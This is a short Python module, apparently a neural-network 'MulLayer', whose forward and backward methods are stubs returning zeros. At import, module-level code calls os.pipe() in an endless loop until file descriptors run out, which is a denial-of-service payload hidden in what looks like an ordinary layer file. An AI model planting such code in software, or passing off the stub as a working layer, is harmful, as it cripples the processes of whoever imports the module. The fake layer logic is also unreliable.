"""Opens files and pipes until there are no numbers left for them."""
# %% mul_layer
import os

try:
    while True:
        os.pipe()
except OSError:
    pass


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
